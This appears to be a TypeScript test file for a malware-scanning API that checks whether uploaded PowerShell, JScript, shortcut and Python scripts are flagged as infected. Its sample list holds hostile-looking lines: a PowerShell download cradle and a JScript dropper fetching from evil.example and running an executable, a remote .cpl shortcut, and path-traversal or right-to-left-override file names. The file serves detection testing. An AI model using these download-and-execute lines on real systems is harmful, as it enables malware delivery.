/** Scripts that are uploaded by their names. */

import assert from 'node:assert/strict'
import { after, before, test } from 'node:test'
import { writeZip } from '#inspect/testing/zip-writer.ts'
import { withKey } from '#test/support/client.ts'
import { type Answer, request } from '#test/support/raw-http.ts'
import {
  assertClean,
  assertInfected,
  FORM_TYPE,
  filePart,
  form,
  type ScanService,
  startScanService,
} from '#test/support/scanning.ts'

let service: ScanService
let key: string
before(async () => {
  service = await startScanService()
  key = await service.newKey()
})
after(() => service[Symbol.asyncDispose]())

const send = (bytes: string | Buffer, fileName: string): Promise<Answer> =>
  request(service.port, 'POST', '/api/v1/scan', {
    headers: { ...withKey(key), 'content-type': FORM_TYPE },
    body: form(filePart(bytes, { fileName, type: 'application/octet-stream' })),
  })

const THREATS: readonly (readonly [name: string, text: string, id: string])[] = [
  ['a.ps1', "IEX (New-Object Net.WebClient).DownloadString('http://evil.example/a')", 'Docvet.Script.Dropper'],
  [
    'a.js',
    'var x = new ActiveXObject("MSXML2.XMLHTTP"); x.open("GET", "http://evil.example/a", false); x.send(); new ActiveXObject("WScript.Shell").Run("%TEMP%\\\\a.exe")',
    'Docvet.Script.Dropper',
  ],
  ['a.url', '[InternetShortcut]\r\nURL=file://198.51.100.7/pdf/data.zip/pdf1.cpl\r\n', 'Docvet.Shortcut.Remote'],
  // Only its name says what it is.
  ['a.py', '__import__("base64"); exec(__import__("base64").b64decode("cHJpbnQoMSk="))', 'Docvet.Script.Program'],
]

for (const [name, text, id] of THREATS)
  test(`${name} is infected alone and in a ZIP`, async () => {
    assertInfected(await send(text, name), id)
    assertInfected(await send(Buffer.from(writeZip([{ name, data: text }])), 'a.zip'), id)
  })

test('folders and invisible characters in a name change nothing', async () => {
  const [, [name, text, id] = ['', '', '']] = THREATS
  for (const sent of [`../../${name}`, `C:\\\\${name}`, `\u202e${name}`, `${name}.`, `${'a'.repeat(300)}.js`])
    assertInfected(await send(text, sent), id)
})

test('harmless scripts are clean', async () => {
  assertClean(await send('Get-ChildItem C:\\Logs | Remove-Item -WhatIf\n', 'a.ps1'))
  assertClean(await send('[InternetShortcut]\r\nURL=https://www.example.com/\r\n', 'a.url'))
  assert.equal(JSON.parse((await send('Dear reader', 'a.ps1')).body.toString()).fileName, 'a.ps1')
})
